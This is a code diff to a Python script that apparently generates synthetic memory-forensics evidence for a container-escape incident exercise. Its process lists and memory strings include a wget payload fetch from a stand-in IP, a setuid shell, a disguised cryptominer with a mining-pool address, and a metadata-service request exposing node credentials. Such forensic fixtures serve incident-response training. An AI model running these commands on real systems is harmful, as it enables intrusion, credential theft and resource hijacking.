@@ -8,9 +8,11 @@
   incident-1/memory/maps/: the memory maps of the suspicious processes (Volatility 3 linux.proc.Maps, text, and
       Volatility 2 linux_proc_maps).
 
-The tree agrees with the node's disk (incident-1/node/*.tar.gz): the pod sandbox 5d9a0b7c… and the sysdiag
-container 8e1f2a3b… under one containerd-shim, the intruder's exec'd shell, the dropped miner script and the
-setuid shell, then an escape to the host: a shell under PID 1 and a miner named like a kernel thread.
+The tree agrees with the node's disk (incident-1/node/*.tar.gz) and the audit log: the pod sandbox 5d9a0b7c… and the
+sysdiag container 8e1f2a3b… under one containerd-shim; the intruder's interactive exec (06:23:58, PID 5120) running the
+miner script and the setuid shell the dropper exec (06:23:31) left on disk; then an escape to the host: a shell under
+PID 1, a miner named like a kernel thread, and the node role's credentials read from the instance metadata service.
+The memory was captured at 06:41 (the miner script's current `sleep 60` started 06:40:01).
 Run from anywhere:  python3 sample-data/generators/incident-1-memory.py
 """
 import csv, hashlib, io, json, os, struct
@@ -37,13 +39,13 @@ PROCESSES = [
     (4730, 4711, "sleep", "/bin/sleep 86400", 0, "2026-11-29 06:23:30.981000"),
     (4790, 4711, "sh", "/bin/sh -c sleep 86400", 0, "2026-11-29 06:23:31.204000"),
     (4801, 4790, "sleep", "sleep 86400", 0, "2026-11-29 06:23:31.209000"),
-    (5120, 4711, "sh", "sh", 0, "2026-11-29 06:23:31.470000"),
-    (5188, 5120, "sh", "/bin/sh /tmp/.x/miner.sh", 0, "2026-11-29 06:23:31.482000"),
-    (5190, 5188, "sleep", "sleep 60", 0, "2026-11-29 06:23:31.483000"),
-    (5201, 5120, "sh", "/tmp/.x/sh -p", 0, "2026-11-29 06:23:31.490000"),
-    (5230, 5201, "wget", "wget -qO- http://203.0.113.50/drop", 0, "2026-11-29 06:23:31.530000"),
+    (5120, 4711, "sh", "sh", 0, "2026-11-29 06:23:58.702000"),
+    (5188, 5120, "sh", "/bin/sh /tmp/.x/miner.sh", 0, "2026-11-29 06:24:00.315000"),
+    (5190, 5188, "sleep", "sleep 60", 0, "2026-11-29 06:40:01.104000"),
+    (5201, 5120, "sh", "/tmp/.x/sh -p", 0, "2026-11-29 06:24:01.120000"),
+    (5230, 5201, "wget", "wget -qO- http://203.0.113.50/drop", 0, "2026-11-29 06:24:01.950000"),
     (5302, 1, "sh", "sh -i", 0, "2026-11-29 06:24:02.770000"),
-    (5310, 1, "kworker/0:2", "/dev/shm/kworker/0:2 --pool stratum+tcp://203.0.113.50:3333 --user AKIA5DEVINTERN7EXMPL", 0, "2026-11-29 06:24:05.012000"),
+    (5310, 1, "kworker/0:2", "/dev/shm/kworker/0:2 --pool stratum+tcp://203.0.113.50:3333 --user sysdiag-rig-07", 0, "2026-11-29 06:24:05.012000"),
 ]
 OFFSET_BASE = 0xFFFF9E3B40000000
 
@@ -122,8 +124,11 @@ def main():
             (0x10020, b"#!/bin/sh\nwhile true; do sleep 60; done\n\x00/tmp/.x/miner.sh\x00"),
             (0x1FFF0, b"wget -qO- http://203.0.113.50/drop\x00"),
             (0x2A000, b"GET /drop HTTP/1.1\r\nHost: 203.0.113.50\r\nUser-Agent: Wget\r\n\r\n"),
-            (0x33000, b"kubectl/v1.31.2 (linux/amd64) from 198.51.100.23\x00")],
-        2: [(0x0100, b"--pool stratum+tcp://203.0.113.50:3333 --user AKIA5DEVINTERN7EXMPL\x00"),
+            (0x33000, b"kubectl/v1.31.2 (linux/amd64) from 198.51.100.23\x00"),
+            # The host shell read the node role's credentials from the instance metadata service (used at 06:25 from 203.0.113.50).
+            (0x3A000, b"GET /latest/meta-data/iam/security-credentials/eksctl-eksworkshop-eksctl-nodegroup-ng-1-NodeInstanceRole HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
+            (0x3A200, b'{"Code":"Success","LastUpdated":"2026-11-29T05:58:12Z","Type":"AWS-HMAC","AccessKeyId":"ASIA5NODEROLE7STOLEN","Expiration":"2026-11-29T12:33:40Z"}\x00')],
+        2: [(0x0100, b"--pool stratum+tcp://203.0.113.50:3333 --user sysdiag-rig-07\x00"),
             (0x4000, b"resolv: update.example.net A 203.0.113.50\x00"),
             (0xF000, b"/dev/shm/kworker/0:2\x00")],
     }
